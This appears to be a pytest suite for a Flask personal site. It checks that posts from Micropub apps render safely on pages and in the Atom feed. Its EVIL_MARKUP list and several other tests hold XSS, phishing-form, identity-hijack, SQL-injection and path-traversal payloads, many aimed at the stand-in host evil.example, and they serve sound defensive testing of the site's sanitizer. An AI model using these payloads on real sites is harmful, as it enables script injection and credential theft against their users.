"""Posts as people and feed readers see them: nothing that an app sends does anything but be read."""

from __future__ import annotations

from urllib.parse import urlsplit

import mf2py
import pytest
from bs4 import BeautifulSoup
from lxml import etree
from sqlalchemy import select

from flask_cimd_site.models import db
from tests.site.posting import Poster, png
from tests.support.browser import Site, soup
from tests.support.proves import proves

ATOM = {"a": "http://www.w3.org/2005/Atom"}


def feed_of(poster: Poster) -> etree._Element:
    answer = poster.browser.get("/feed.atom")
    assert answer.headers["Content-Type"].startswith("application/atom+xml")
    return etree.fromstring(answer.content)


def test_a_note_is_an_entry_on_the_home_page_and_at_its_permalink(posting_site: Site, poster: Poster) -> None:
    url = poster.note("Hello <world>\nand all", category=["greeting"])
    home = mf2py.parse(doc=BeautifulSoup(poster.browser.get("/").text, "lxml"), url=posting_site.base_url + "/")
    feed = next(item for item in home["items"] if item["type"] == ["h-feed"])
    entry = feed["children"][0]["properties"]
    assert entry["content"][0]["value"] == "Hello <world>\nand all"
    assert (entry["url"], entry["category"]) == ([url], ["greeting"])
    permalink = mf2py.parse(doc=BeautifulSoup(poster.page(url).text, "lxml"), url=url)
    assert permalink["items"][0]["type"] == ["h-entry"]
    assert permalink["items"][0]["properties"]["author"][0]["properties"]["url"] == [posting_site.base_url + "/"]


def test_the_feed_has_what_the_home_page_has(posting_site: Site, poster: Poster) -> None:
    url = poster.note({"html": "<p>One &amp; <b>two</b></p>"}, name=["A & B"], category=["x"], summary=["Short"])
    feed = feed_of(poster)
    assert feed.findtext("a:id", namespaces=ATOM) == posting_site.base_url + "/"
    assert feed.find("a:link[@rel='self']", ATOM).get("href") == posting_site.base_url + "/feed.atom"
    entry = feed.find("a:entry", ATOM)
    assert entry.findtext("a:id", namespaces=ATOM) == url
    assert entry.findtext("a:title", namespaces=ATOM) == "A & B"
    assert entry.findtext("a:summary", namespaces=ATOM) == "Short"
    assert "<p>One &amp; <b>two</b></p>" in entry.findtext("a:content", namespaces=ATOM)
    assert entry.find("a:category", ATOM).get("term") == "x"
    link = soup(poster.browser.get("/")).select_one('link[type="application/atom+xml"]')
    assert link["href"] == posting_site.base_url + "/feed.atom"


def test_an_unchanged_feed_is_not_sent_again(poster: Poster) -> None:
    poster.note("x")
    tag = poster.browser.get("/feed.atom").headers["ETag"]
    assert poster.browser.get("/feed.atom", headers={"If-None-Match": tag}).status_code == 304
    poster.note("y")
    assert poster.browser.get("/feed.atom", headers={"If-None-Match": tag}).status_code == 200


def test_a_draft_does_not_change_the_instant_of_the_feed(posting_site: Site, poster: Poster) -> None:
    poster.note("x")
    before = feed_of(poster).findtext("a:updated", namespaces=ATOM)
    posting_site.clock.forward(minutes=1)
    poster.note("unpublished", post_status=["draft"])
    assert feed_of(poster).findtext("a:updated", namespaces=ATOM) == before
    poster.note("y")
    assert feed_of(poster).findtext("a:updated", namespaces=ATOM) != before


def test_a_deleted_draft_is_not_among_the_drafts(posting_site: Site, poster: Poster) -> None:
    kept, deleted = (poster.note(name, post_status=["draft"]) for name in ("kept", "deleted"))
    assert poster.json({"action": "delete", "url": deleted}).status_code == 204
    page = soup(posting_site.owner().get("/notes"))
    links = {str(link["href"]) for link in page.select("a[href]")}
    assert (kept in links, deleted in links) == (True, False)


def test_a_feed_without_posts_is_a_feed(poster: Poster) -> None:
    assert feed_of(poster).find("a:entry", ATOM) is None


def test_newest_posts_come_first_and_older_ones_on_further_pages(posting_site: Site, poster: Poster) -> None:
    for number in range(1, 46):
        poster.note(f"note number {number}.", published=[f"2020-01-01T00:00:{number:02}Z"])
    seen, path = [], "/"
    while path:
        page = soup(poster.browser.get(path))
        seen += [entry.text.strip() for entry in page.select(".h-entry .e-content")]
        older = page.select_one('a[rel="next"]')
        path = older["href"] if older else ""
    assert seen == [f"note number {number}." for number in range(45, 0, -1)]


@pytest.mark.parametrize("page", ["0", "-1", "2", "x", "", "1" * 50, "１", "1.5", "' OR 1=1"])
def test_there_are_no_other_pages(poster: Poster, page: str) -> None:
    assert poster.browser.get("/", params={"page": page}).status_code == 404


@pytest.mark.parametrize("slug", ["missing", "%2e%2e%2f", "x" * 5000, "%00", "日本", "'--", "A-Note"])
def test_there_are_no_other_posts(poster: Poster, slug: str) -> None:
    assert poster.browser.get(f"/notes/{slug}").status_code == 404


def test_the_owner_publishes_and_deletes_without_an_app(posting_site: Site, poster: Poster) -> None:
    url = poster.note("from an app", post_status=["draft"])
    owner = posting_site.owner()
    assert owner.press(owner.get(urlsplit(url).path), "Publish").status_code == 303
    assert poster.page(url).status_code == 200
    assert "Delete" not in poster.page(url).text
    assert owner.press(owner.get(urlsplit(url).path), "Delete").status_code == 303
    assert poster.page(url).status_code == 410


@pytest.mark.parametrize(("action", "column"), [("publish", "published_at"), ("delete", "deleted_at")])
def test_a_button_pressed_twice_keeps_the_first_time(
    posting_site: Site, poster: Poster, action: str, column: str
) -> None:
    # A page that was opened before still has the button.
    path = urlsplit(poster.note("from an app", post_status=["draft"])).path
    owner = posting_site.owner()
    token = soup(owner.get(path)).select_one("input[name=csrf_token]")["value"]

    def press() -> float:
        assert owner.post(f"{path}/{action}", {"csrf_token": token}).status_code == 303
        with posting_site.app.app_context(), db.engine.connect() as connection:
            return float(connection.execute(select(db.metadata.tables["post"].c[column])).scalar_one())

    first = press()
    posting_site.clock.forward(minutes=1)
    assert press() == first


@pytest.mark.parametrize("action", ["publish", "delete"])
def test_nobody_else_publishes_or_deletes(posting_site: Site, poster: Poster, action: str) -> None:
    url = poster.note("mine", post_status=["draft"])
    path = f"{urlsplit(url).path}/{action}"
    assert posting_site.owner().post(path).status_code == 400  # without a token of this site's own form
    stranger = posting_site.browser()
    token = soup(stranger.get("/login")).select_one("input[name=csrf_token]")["value"]
    assert stranger.post(path, {"csrf_token": token}).headers["Location"].startswith("/login")
    assert poster.source(url)["post-status"] == ["draft"]
    assert poster.page(url).status_code == 404


def test_markup_that_changes_when_it_is_read_again_stays_markup(poster: Poster) -> None:
    # A parser moves the second item out of the table; the page holds what a browser makes of it.
    page = poster.page(poster.note({"html": "<li>One<table><li>Two"}))
    assert "<li>One</li><li>Two</li><table></table>" in page.text


EVIL_MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style>@import 'https://evil.example'</style></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<form action=/logout method=post><button formaction=/logout>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example'><style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "</div></article></main><script>alert(1)</script>",
    "<video src='https://evil.example' autoplay></video><audio src='https://evil.example'></audio>",
    "<img src='https://evil.example/track.gif' srcset='https://evil.example/2x 2x'>",
    "<img src='//evil.example/x.png'>",
    "<img src='http://127.0.0.1:5000/logout'>",
    "<p background='https://evil.example' class='h-card'>x</p>",
]


@pytest.mark.parametrize("markup", EVIL_MARKUP)
def test_markup_of_an_app_can_do_nothing(poster: Poster, markup: str) -> None:
    url = poster.note({"html": f"<p>before</p>{markup}<p>after</p>"})
    for page in (poster.page(url).text, poster.browser.get("/").text):
        assert_harmless(BeautifulSoup(page, "lxml").select_one(".h-entry .e-content"))
    content = feed_of(poster).findtext(".//a:entry/a:content", namespaces=ATOM)
    assert_harmless(BeautifulSoup(content, "lxml"))


def assert_harmless(content) -> None:
    assert "before" in content.text
    for element in content.find_all(True):
        assert element.name not in {
            "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta", "base",
            "link", "video", "audio", "noscript", "template",
        }  # fmt: skip
        for name, value in element.attrs.items():
            assert name in {"href", "src", "rel", "title", "alt", "class", "dir", "loading"}
            if name == "href":
                assert str(value).startswith(("http://", "https://", "mailto:"))
            if name == "src":
                assert str(value).startswith("http://127.0.0.1:5000/media/")
    assert not content.select("p[class], a[class]")


@pytest.mark.parametrize("text", EVIL_MARKUP)
@pytest.mark.parametrize("name", ["content", "name", "summary", "category"])
def test_text_stays_text_wherever_it_is_shown(poster: Poster, name: str, text: str) -> None:
    url = (
        poster.note("plain", **({name: [text]} if name != "content" else {}))
        if name != "content"
        else poster.note(text)
    )
    for page in (poster.page(url), poster.browser.get("/")):
        shown = soup(page)
        entry = shown.select_one(".h-entry")
        assert not entry.select("script, style, svg, iframe, object, embed, form, input, button, meta, base, link, img")
        assert not [a for a in entry.select("a") if not str(a["href"]).startswith(("http", "mailto:"))]
        assert " ".join(text.split()) in " ".join(entry.text.split())
    assert feed_of(poster).find("a:entry", ATOM) is not None


@proves("IA-119")
def test_markup_cannot_claim_microformats_of_its_own(posting_site: Site, poster: Poster) -> None:
    # Whoever may write on the page must not be able to add discovery links or identities.
    evil = '<a rel="me" class="u-url u-uid" href="https://evil.example/">x</a><a rel="micropub" href="https://evil.example/m">y</a>'
    poster.note(
        {"html": f'<div class="h-card">{evil}</div><link rel="authorization_endpoint" href="https://evil.example/">'}
    )
    parsed = mf2py.parse(doc=BeautifulSoup(poster.browser.get("/").text, "lxml"), url=posting_site.base_url + "/")
    for relation in ("me", "micropub", "authorization_endpoint", "token_endpoint", "indieauth-metadata"):
        assert not [url for url in parsed["rels"][relation] if "evil" in url]
    cards = [item for item in parsed["items"] if item["type"] == ["h-card"]]
    assert [card["properties"]["uid"] for card in cards] == [[posting_site.base_url + "/"]]


def test_images_of_this_site_may_stand_in_markup(poster: Poster) -> None:
    location = poster.upload(png()).headers["Location"]
    url = poster.note({"html": f'<p>Look <img src="{location}" alt="A square" onload="alert(1)"></p>'})
    image = soup(poster.page(url)).select_one(".e-content img")
    assert image.attrs == {"src": location, "alt": "A square"}


def test_pages_forbid_everything_from_elsewhere(poster: Poster) -> None:
    policy = poster.page(poster.note("x")).headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "img-src 'self'" in policy


def test_addresses_in_plain_text_become_links(poster: Poster) -> None:
    page = soup(poster.page(poster.note('See https://a.example/?x=1&y="2"> now')))
    link = page.select_one(".e-content a")
    assert str(link["href"]).startswith("https://a.example/?x=1&y=")
    assert "noopener" in link["rel"]


@pytest.mark.parametrize("name", ["in-reply-to", "like-of", "repost-of", "bookmark-of"])
def test_links_that_a_post_is_about_are_named(poster: Poster, name: str) -> None:
    answer = poster.json({"type": ["h-entry"], "properties": {name: ["https://other.example/post"]}})
    link = soup(poster.page(answer.headers["Location"])).select_one(f"a.u-{name}")
    assert link["href"] == "https://other.example/post"


@pytest.mark.parametrize(
    "text", ["\x00\x0b\x1f", "\ufffe\uffff", "a\u202eb", "\U0001f600" * 50, "]]>", "&#0;", "x" * 90_000]
)
def test_any_text_makes_a_well_formed_feed_and_page(poster: Poster, text: str) -> None:
    answer = poster.json(
        {"type": ["h-entry"], "properties": {"content": [f"kept {text}"], "category": [f"c{text}"[:900]]}}
    )
    assert answer.status_code == 201
    assert feed_of(poster).findtext(".//a:entry/a:content", namespaces=ATOM)
    assert poster.page(answer.headers["Location"]).status_code == 200


@pytest.mark.parametrize("reference", ["&#1;", "&#11;", "&#xfffe;", "&#xffff;", "&#127;"])
def test_character_references_cannot_break_the_feed(poster: Poster, reference: str) -> None:
    url = poster.note({"html": f"<p>kept {reference}<a href='https://a.example/{reference}'>link</a></p>"})
    assert "kept" in str(feed_of(poster).findtext(".//a:entry/a:content", namespaces=ATOM))
    assert poster.page(url).status_code == 200


def test_long_runs_of_closing_marks_are_read_in_no_time(poster: Poster) -> None:
    page = poster.page(poster.note("https://a.example/ " + ")" * 90_000 + "a)\n\nhttps://b.example/ (and more)..."))
    assert [link["href"] for link in soup(page).select(".e-content a")] == ["https://b.example/"]


def test_deep_markup_is_read_in_no_time(poster: Poster) -> None:
    url = poster.note({"html": "<blockquote>" * 4_999 + "x"})
    assert poster.page(url).status_code == 200
    assert feed_of(poster) is not None


def test_a_note_without_a_name_is_listed_by_its_first_whole_words(posting_site: Site, poster: Poster) -> None:
    poster.note("word " * 40)
    poster.note("x" * 200)
    shown = [tag.text for tag in soup(posting_site.owner().get("/notes")).select(".rules bdi")]
    assert sorted(shown) == ["word " * 15 + "word…", "x" * 79 + "…"]
